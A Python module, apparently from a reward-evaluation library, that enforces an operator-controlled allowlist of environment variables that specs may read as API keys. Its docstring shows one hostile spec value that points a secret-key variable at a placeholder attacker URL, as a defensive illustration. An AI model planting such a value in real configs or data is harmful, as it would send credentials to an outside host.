"""Which environment variables may be read as API keys: the operator decides, never a spec string.

A spec can arrive from data (a verl row's ``extra_info``, a YAML someone sent); if it could name any
variable, ``api_key_env=AWS_SECRET_ACCESS_KEY,base_url=http://attacker`` would mail a secret away. So a spec
may name only variables on the allowlist: ``OPENAI_API_KEY`` plus what the operator adds in Python
(`allow_key_env`, or a constructor's ``api_key_env`` argument, which is Python, not data), on the command
line (``--allow-key-env NAME``) or in the environment (``REWARDLAB_ALLOWED_KEY_ENVS=NAME,OTHER``, which
reaches every worker process a trainer starts). The same list governs ``remote:`` specs. The key itself
never appears in a spec, a cache key or a report.
"""

from __future__ import annotations

import os
import re

DEFAULT_KEY_ENVS = frozenset({"OPENAI_API_KEY"})
ALLOWED_KEY_ENVS_ENV = "REWARDLAB_ALLOWED_KEY_ENVS"
_allowed: set[str] = set(DEFAULT_KEY_ENVS)
_NAME = re.compile(r"[A-Z_][A-Z0-9_]{0,127}")


class KeyNotAllowed(PermissionError):
    """A spec named an environment variable the operator has not allowed."""


def allow_key_env(*names: str) -> None:
    """Let specs name these environment variables as API keys (for the rest of this process)."""
    for name in names:
        if not _NAME.fullmatch(name):
            raise ValueError(f"{name!r} is not an environment variable name (A-Z, 0-9, _)")
        _allowed.add(name)


def allowed_key_envs() -> frozenset[str]:
    """The allowlist now: the defaults, `allow_key_env` calls, and ``$REWARDLAB_ALLOWED_KEY_ENVS``."""
    listed = os.environ.get(ALLOWED_KEY_ENVS_ENV, "")
    return frozenset(_allowed | {name.strip() for name in listed.split(",") if name.strip()})


def read_key(name: str | None, trusted: bool = False) -> str | None:
    """The value of ``name`` (None when unset); ``trusted`` means the name came from Python, not a spec."""
    if name is None:
        return None
    allowed = allowed_key_envs()
    if not trusted and name not in allowed:
        raise KeyNotAllowed(f"api_key_env={name!r} is not allowed: a spec may read only {sorted(allowed)}; the "
                            f"operator allows more with --allow-key-env NAME, ${ALLOWED_KEY_ENVS_ENV}=NAME or "
                            "rewardlab.generation.allow_key_env()")
    value = os.environ.get(name)
    return value or None
